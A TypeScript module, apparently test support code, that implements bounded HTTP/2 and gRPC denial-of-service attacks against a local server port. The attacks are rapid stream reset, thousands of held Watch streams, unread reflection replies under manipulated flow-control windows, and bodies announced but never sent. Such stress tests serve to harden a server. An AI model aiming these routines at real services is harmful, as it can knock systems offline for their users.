import { once } from 'node:events'
import net, { type Socket } from 'node:net'
import { setTimeout as sleep, setImmediate as turn } from 'node:timers/promises'
import {
  CANCEL,
  DATA,
  END_STREAM,
  frame,
  GRPC_HEADERS,
  headers,
  PREFACE,
  RST_STREAM,
  SETTINGS,
  WINDOW_UPDATE,
} from '../../grpc/support/frames.ts'

/** An attack on an internal port without a credential. It ends by itself after a number of frames. */
export type InternalAttack = (port: number) => Promise<void>

/** Four connections that open streams and reset them in the same packet, and are reopened whenever the server closes them. */
export const rapidReset: InternalAttack = async (port) => {
  await together(4, async () => {
    for (let sent = 0; sent < 5000; ) {
      const socket = (await open(port)).resume()
      for (let id = 1; sent < 5000 && !socket.destroyed; sent += 100) {
        const streams: Buffer[] = []
        for (let n = 0; n < 100; n++, id += 2)
          streams.push(
            headers(id, '/grpc.health.v1.Health/Check', GRPC_HEADERS),
            frame(RST_STREAM, 0, id, CANCEL),
          )
        await write(socket, streams)
      }
      socket.destroy()
    }
  })
}

/** Twenty connections of a thousand watchers each. */
export const watchers: InternalAttack = async (port) => {
  await held(port, 20, (socket) =>
    streams(socket, 1000, (id) => [
      headers(id, '/grpc.health.v1.Health/Watch', GRPC_HEADERS, 0),
      frame(DATA, END_STREAM, id, Buffer.alloc(5)),
    ]),
  )
}

/** Four connections with the largest possible windows ask for the largest file again and again, and read no answer. */
export const unreadReflection: InternalAttack = async (port) => {
  const question = frame(DATA, 0, 1, LARGEST_FILE)
  await held(port, 4, async (socket) => {
    const window = Buffer.from([0, 4, 0x7f, 0xff, 0xff, 0xff])
    const more = Buffer.from([0x7f, 0xfe, 0, 0])
    await write(socket, [frame(SETTINGS, 0, 0, window), frame(WINDOW_UPDATE, 0, 0, more)])
    await write(socket, [headers(1, REFLECTION, GRPC_HEADERS, 0)])
    const blob = Array.from({ length: 200 }, () => question)
    for (let n = 0; n < 100 && !socket.destroyed; n++) await write(socket, blob)
  })
}

/** Twenty connections of 500 streams each, with windows of 0: each asks for the largest file once, and no answer can be sent. */
export const unreadReflectionStreams: InternalAttack = async (port) => {
  await held(port, 20, async (socket) => {
    await write(socket, [frame(SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]))])
    await streams(socket, 500, (id) => [
      headers(id, REFLECTION, GRPC_HEADERS, 0),
      frame(DATA, 0, id, LARGEST_FILE),
    ])
  })
}

/** Twenty connections of 500 calls each, whose messages announce 80 MiB and never come. */
export const unfinishedBodies: InternalAttack = async (port) => {
  const begun = Buffer.concat([Buffer.from([0, 5, 0, 0, 0]), Buffer.alloc(100, 'x')])
  await held(port, 20, (socket) =>
    streams(socket, 500, (id) => [
      headers(id, '/attestry.ledger.v1.IncidentService/ListIncidents', GRPC_HEADERS, 0),
      frame(DATA, 0, id, begun),
    ]),
  )
}

const REFLECTION = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo'
/** A message that asks for the file of a service with a large file. */
const LARGEST_FILE = message(0x22, Buffer.from('attestry.ledger.v1.IncidentService'))

/** Makes a gRPC message with one field of bytes. */
function message(tag: number, value: Buffer): Buffer {
  const field = Buffer.concat([Buffer.from([tag, value.length]), value])
  return Buffer.concat([Buffer.alloc(4), Buffer.from([field.length]), field])
}

/** Opens a connection that reads nothing. */
async function open(port: number): Promise<Socket> {
  const socket = net.connect({ host: '127.0.0.1', port, localAddress: '127.0.0.2' })
  socket.on('error', () => undefined).pause()
  await Promise.race([once(socket, 'connect'), once(socket, 'close')])
  if (!socket.destroyed) socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0)]))
  return socket
}

/** Opens connections that attack at the same time, and keeps them open for three seconds after the last attack. */
async function held(port: number, count: number, attack: (socket: Socket) => Promise<void>): Promise<void> {
  const opened: Socket[] = []
  await together(count, async () => {
    const socket = await open(port)
    opened.push(socket)
    await attack(socket)
  })
  await sleep(3000)
  for (const socket of opened) socket.destroy()
}

async function streams(socket: Socket, count: number, of: (id: number) => Buffer[]): Promise<void> {
  for (let n = 0; n < count && !socket.destroyed; n += 50)
    await write(socket, Array.from({ length: 50 }, (_, i) => of(2 * (n + i) + 1)).flat())
}

/**
 * Writes bytes. Waits until they are sent, the connection has ended, or nothing moves for a while because the server does not
 * read.
 */
async function write(socket: Socket, parts: Buffer[]): Promise<void> {
  if (socket.destroyed) return
  socket.write(Buffer.concat(parts))
  await turn()
  for (let i = 0; i < 50 && !socket.destroyed && socket.writableLength > 0; i++) await sleep(10)
}

async function together(count: number, run: () => Promise<void>): Promise<void> {
  await Promise.all(Array.from({ length: count }, run))
}
